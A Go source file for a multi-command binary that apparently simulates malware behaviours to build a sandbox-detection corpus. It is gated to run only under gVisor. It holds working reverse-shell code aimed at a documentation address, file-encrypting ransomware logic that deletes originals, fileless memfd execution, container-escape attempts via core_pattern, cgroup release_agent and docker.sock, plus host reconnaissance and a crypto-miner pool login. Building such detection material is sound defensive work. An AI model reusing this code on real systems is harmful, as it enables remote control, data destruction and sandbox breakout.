// Command behave is the training corpus's multi-tool: one static binary
// whose subcommands imitate what malware and ordinary services do, each
// parameterised by flags so the corpus generator can make many variants
// (other ports, addresses, paths, timings) from one build. Like the
// behaviour images under testdata, it does nothing at all unless it runs
// inside gVisor, and every remote end it is given is a reserved name or a
// documentation address.
//
//	behave burn -secs 3 -threads 2
//	behave dial -addr pool.example:3333 -payload stratum -tries 3
//	behave mine -addr pool.example:3333 -wallet 4... -secs 3 -threads 2
//	behave revshell -addr 198.51.100.7:4444
//	behave memfd -then "sleep 1"
//	behave escape -steps mount,unshare,ptrace
//	behave recon -procs -net -scan 22,80,443
//	behave encrypt -dir /srv/data -ext .locked
//	behave serve -addr 127.0.0.1:8080 -requests 5
//	behave compute -secs 1 -out /var/tmp/result.txt
package main

import (
	"bufio"
	"crypto/aes"
	"crypto/cipher"
	"crypto/sha256"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// gvisorVersion is the uname version gVisor reports; see
// testdata/behaviours/internal/guard for why it identifies gVisor.
const gvisorVersion = "#1 SMP Sun Jan 10 15:06:54 PST 2016"

func inGVisor() bool {
	var u unix.Utsname
	if unix.Uname(&u) != nil {
		return false
	}
	rel, ver := unix.ByteSliceToString(u.Release[:]), unix.ByteSliceToString(u.Version[:])
	return ver == gvisorVersion && (rel == "4.4.0" || strings.HasSuffix(rel, "-gvisor"))
}

var commands = map[string]func(args []string) error{
	"burn": burn, "dial": dial, "revshell": revshell, "memfd": memfd, "escape": escape,
	"recon": recon, "encrypt": encrypt, "serve": serve, "compute": compute, "mine": mine,
}

func main() {
	if !inGVisor() {
		fmt.Fprintln(os.Stderr, "behave: a sandscan corpus simulation; not inside gVisor, so doing nothing")
		os.Exit(0)
	}
	if len(os.Args) < 2 || commands[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "usage: behave burn|dial|mine|revshell|memfd|escape|recon|encrypt|serve|compute [flags]")
		os.Exit(2)
	}
	if err := commands[os.Args[1]](os.Args[2:]); err != nil {
		fmt.Fprintln(os.Stderr, "behave:", err)
		os.Exit(1)
	}
}

// burn hashes on every thread for a while, as a miner does.
func burn(args []string) error {
	fs := flag.NewFlagSet("burn", flag.ContinueOnError)
	secs := fs.Float64("secs", 3, "seconds")
	threads := fs.Int("threads", runtime.NumCPU(), "threads")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var wg sync.WaitGroup
	end := time.Now().Add(time.Duration(*secs * float64(time.Second)))
	var total uint64
	var mu sync.Mutex
	for t := 0; t < *threads; t++ {
		wg.Add(1)
		go func(t int) {
			defer wg.Done()
			var n uint64
			var b [8]byte
			h := sha256.Sum256([]byte{byte(t)})
			for time.Now().Before(end) {
				for i := 0; i < 4096; i++ {
					binary.LittleEndian.PutUint64(b[:], n)
					h = sha256.Sum256(append(h[:], b[:]...))
					n++
				}
			}
			mu.Lock()
			total += n
			mu.Unlock()
		}(t)
	}
	wg.Wait()
	fmt.Printf("burn: %d hashes on %d threads\n", total, *threads)
	return nil
}

// mine is a miner's life: log in to a pool (dial's flags), then burn.
func mine(args []string) error {
	var dialArgs, burnArgs []string
	for i := 0; i < len(args); i++ {
		a := args[i]
		if (a == "-secs" || a == "-threads") && i+1 < len(args) {
			burnArgs = append(burnArgs, a, args[i+1])
			i++
			continue
		}
		dialArgs = append(dialArgs, a)
	}
	if err := dial(append(dialArgs, "-payload", "stratum")); err != nil {
		return err
	}
	return burn(burnArgs)
}

// payloads are first messages of the protocols dial can speak.
var payloads = map[string]string{
	"stratum": `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"WALLET","pass":"x","agent":"AGENT"}}` + "\n" +
		`{"id":2,"jsonrpc":"2.0","method":"mining.subscribe","params":["AGENT"]}` + "\n",
	"http":   "GET /PATH HTTP/1.1\r\nHost: HOST\r\nUser-Agent: AGENT\r\n\r\n",
	"beacon": "HELLO HOST AGENT\n",
	"none":   "",
}

// dial connects to each address in turn, a few rounds, and sends a
// protocol's first message when a connection opens.
func dial(args []string) error {
	fs := flag.NewFlagSet("dial", flag.ContinueOnError)
	addrs := fs.String("addr", "", "comma-separated host:port list")
	payload := fs.String("payload", "none", "stratum, http, beacon or none")
	wallet := fs.String("wallet", "", "login for stratum")
	agent := fs.String("agent", "curl/7.88", "client name")
	path := fs.String("path", "/", "http path")
	tries := fs.Int("tries", 1, "rounds over the address list")
	interval := fs.Duration("interval", 200*time.Millisecond, "pause between rounds")
	proto := fs.String("proto", "tcp", "tcp or udp")
	if err := fs.Parse(args); err != nil {
		return err
	}
	for r := 0; r < *tries; r++ {
		for _, a := range strings.Split(*addrs, ",") {
			host, _, _ := net.SplitHostPort(a)
			c, err := net.DialTimeout(*proto, a, time.Second)
			if err != nil {
				fmt.Println("dial:", a, err)
				continue
			}
			msg := strings.NewReplacer("WALLET", *wallet, "AGENT", *agent, "HOST", host, "PATH", strings.TrimPrefix(*path, "/")).Replace(payloads[*payload])
			c.SetDeadline(time.Now().Add(time.Second))
			io.WriteString(c, msg)
			line, _ := bufio.NewReader(c).ReadString('\n')
			fmt.Printf("dial: %s answered %q\n", a, line)
			c.Close()
		}
		time.Sleep(*interval)
	}
	return nil
}

// revshell connects back and hands the socket to a shell.
func revshell(args []string) error {
	fs := flag.NewFlagSet("revshell", flag.ContinueOnError)
	addrs := fs.String("addr", "", "comma-separated host:port list")
	shell := fs.String("shell", "/bin/sh", "shell to run")
	tries := fs.Int("tries", 3, "rounds")
	interval := fs.Duration("interval", 300*time.Millisecond, "pause between rounds")
	if err := fs.Parse(args); err != nil {
		return err
	}
	for r := 0; r < *tries; r++ {
		for _, a := range strings.Split(*addrs, ",") {
			c, err := net.DialTimeout("tcp", a, time.Second)
			if err != nil {
				fmt.Println("revshell:", a, err)
				continue
			}
			f, err := c.(*net.TCPConn).File()
			if err != nil {
				return err
			}
			for _, fd := range []int{0, 1, 2} {
				unix.Dup3(int(f.Fd()), fd, 0)
			}
			return unix.Exec(*shell, []string{*shell, "-i"}, os.Environ())
		}
		time.Sleep(*interval)
	}
	return fmt.Errorf("no listener answered")
}

// memfd copies this binary into an anonymous file and runs it from there
// (fileless execution), with the given subcommand.
func memfd(args []string) error {
	fs := flag.NewFlagSet("memfd", flag.ContinueOnError)
	name := fs.String("name", "kworker", "memfd name")
	then := fs.String("then", "burn -secs 1 -threads 1", "subcommand to run from memory")
	if err := fs.Parse(args); err != nil {
		return err
	}
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate(*name, 0)
	if err != nil {
		return err
	}
	if _, err := unix.Write(fd, self); err != nil {
		return err
	}
	argv := append([]string{*name}, strings.Fields(*then)...)
	return unix.Exec("/proc/self/fd/"+strconv.Itoa(fd), argv, os.Environ())
}

// escape tries container breakouts; each is expected to fail.
func escape(args []string) error {
	fs := flag.NewFlagSet("escape", flag.ContinueOnError)
	steps := fs.String("steps", "mount,unshare,ptrace,module,core,cgroup,docker", "comma-separated steps")
	if err := fs.Parse(args); err != nil {
		return err
	}
	all := map[string]func() error{
		"mount": func() error {
			os.MkdirAll("/mnt/h", 0o755)
			return unix.Mount("/dev/vda1", "/mnt/h", "ext4", 0, "")
		},
		"unshare": func() error {
			runtime.LockOSThread()
			return unix.Unshare(unix.CLONE_NEWNS | unix.CLONE_NEWUSER | unix.CLONE_NEWPID)
		},
		"ptrace": func() error { return unix.PtraceAttach(1) },
		"module": func() error { return unix.InitModule(append([]byte("\x7fELF"), make([]byte, 128)...), "") },
		"core":   func() error { return os.WriteFile("/proc/sys/kernel/core_pattern", []byte("|/tmp/.h %p"), 0o644) },
		"cgroup": func() error {
			os.MkdirAll("/tmp/cg", 0o755)
			if err := unix.Mount("cgroup", "/tmp/cg", "cgroup", 0, "memory"); err != nil {
				os.WriteFile("/sys/fs/cgroup/release_agent", []byte("/tmp/.h"), 0o644)
				return err
			}
			return os.WriteFile("/tmp/cg/release_agent", []byte("/tmp/.h"), 0o644)
		},
		"docker": func() error {
			c, err := net.DialTimeout("unix", "/var/run/docker.sock", time.Second)
			if err != nil {
				return err
			}
			defer c.Close()
			_, err = io.WriteString(c, "POST /containers/create HTTP/1.0\r\n\r\n")
			return err
		},
		"setns": func() error {
			f, err := os.Open("/proc/1/ns/mnt")
			if err != nil {
				return err
			}
			return unix.Setns(int(f.Fd()), 0)
		},
		"chroot": func() error { return unix.Chroot("/proc/1/root") },
		"bpf": func() error {
			_, _, e := unix.Syscall(unix.SYS_BPF, 0, 0, 0)
			return e
		},
		"keyctl": func() error {
			_, err := unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, unix.KEY_SPEC_SESSION_KEYRING, 0, 0, 0)
			return err
		},
		"devmem": func() error { _, err := os.Open("/dev/mem"); return err },
		"sysrq":  func() error { return os.WriteFile("/proc/sysrq-trigger", []byte("h"), 0o200) },
	}
	for _, s := range strings.Split(*steps, ",") {
		if f := all[s]; f != nil {
			fmt.Printf("escape: %s: %v\n", s, f())
		}
	}
	return nil
}

// recon looks around: processes, sockets, users, a local port scan.
func recon(args []string) error {
	fs := flag.NewFlagSet("recon", flag.ContinueOnError)
	procs := fs.Bool("procs", false, "read every /proc/N/cmdline")
	netw := fs.Bool("net", false, "read /proc/net tables and interfaces")
	users := fs.Bool("users", false, "read account files")
	scan := fs.String("scan", "", "comma-separated ports to probe")
	host := fs.String("host", "127.0.0.1", "host to probe")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *procs {
		ds, _ := os.ReadDir("/proc")
		for _, d := range ds {
			if _, err := strconv.Atoi(d.Name()); err == nil {
				os.ReadFile(filepath.Join("/proc", d.Name(), "cmdline"))
				os.ReadFile(filepath.Join("/proc", d.Name(), "status"))
			}
		}
	}
	if *netw {
		for _, f := range []string{"/proc/net/tcp", "/proc/net/tcp6", "/proc/net/udp", "/proc/net/route", "/proc/self/cgroup", "/proc/self/mountinfo"} {
			os.ReadFile(f)
		}
		net.Interfaces()
	}
	if *users {
		for _, f := range []string{"/etc/passwd", "/etc/group", "/etc/hosts", "/etc/os-release"} {
			os.ReadFile(f)
		}
	}
	if *scan != "" {
		open := 0
		for _, p := range strings.Split(*scan, ",") {
			if c, err := net.DialTimeout("tcp", net.JoinHostPort(*host, p), 200*time.Millisecond); err == nil {
				open++
				c.Close()
			}
		}
		fmt.Println("recon: open ports:", open)
	}
	return nil
}

// encrypt replaces every file under dir by an encrypted copy with a new
// extension and leaves a ransom note, as ransomware does.
func encrypt(args []string) error {
	fs := flag.NewFlagSet("encrypt", flag.ContinueOnError)
	dir := fs.String("dir", "/srv", "directory")
	ext := fs.String("ext", ".locked", "extension of encrypted files")
	note := fs.String("note", "README_RESTORE.txt", "ransom note name")
	if err := fs.Parse(args); err != nil {
		return err
	}
	key := sha256.Sum256([]byte("sandscan-corpus"))
	block, _ := aes.NewCipher(key[:])
	n := 0
	filepath.WalkDir(*dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || strings.HasSuffix(p, *ext) {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return nil
		}
		out := make([]byte, len(data))
		cipher.NewCTR(block, make([]byte, 16)).XORKeyStream(out, data)
		if os.WriteFile(p+*ext, out, 0o600) == nil {
			os.Remove(p)
			n++
		}
		return nil
	})
	os.WriteFile(filepath.Join(*dir, *note), []byte("Your files are encrypted. This is a sandscan simulation.\n"), 0o644)
	fmt.Println("encrypt:", n, "files")
	return nil
}

// serve answers HTTP on a loopback address and queries itself.
func serve(args []string) error {
	fs := flag.NewFlagSet("serve", flag.ContinueOnError)
	addr := fs.String("addr", "127.0.0.1:8080", "listen address")
	requests := fs.Int("requests", 5, "requests to make to itself")
	interval := fs.Duration("interval", 200*time.Millisecond, "pause between requests")
	linger := fs.Duration("linger", 0, "keep serving this long after the requests")
	if err := fs.Parse(args); err != nil {
		return err
	}
	l, err := net.Listen("tcp", *addr)
	if err != nil {
		return err
	}
	go http.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "ok %s\n", r.URL.Path)
	}))
	for i := 0; i < *requests; i++ {
		if resp, err := http.Get("http://" + *addr + "/item/" + strconv.Itoa(i)); err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
		time.Sleep(*interval)
	}
	time.Sleep(*linger)
	fmt.Println("serve: done")
	return nil
}

// compute is a batch job: count primes for a while and write the result.
func compute(args []string) error {
	fs := flag.NewFlagSet("compute", flag.ContinueOnError)
	secs := fs.Float64("secs", 1, "seconds")
	out := fs.String("out", "/var/tmp/result.txt", "result file")
	if err := fs.Parse(args); err != nil {
		return err
	}
	end := time.Now().Add(time.Duration(*secs * float64(time.Second)))
	primes := 0
	for n := 2; time.Now().Before(end); n++ {
		prime := true
		for d := 2; d*d <= n; d++ {
			if n%d == 0 {
				prime = false
				break
			}
		}
		if prime {
			primes++
		}
	}
	if err := os.WriteFile(*out, []byte(fmt.Sprintln("primes:", primes)), 0o644); err != nil {
		return err
	}
	// Batch jobs log what they did, as the sample batch image does.
	fmt.Printf("compute: %d primes in %.2fs, result in %s\n", primes, *secs, *out)
	if len(os.Getenv("COMPUTE_CHILD")) > 0 {
		return exec.Command("/bin/sh", "-c", "echo child done").Run()
	}
	return nil
}
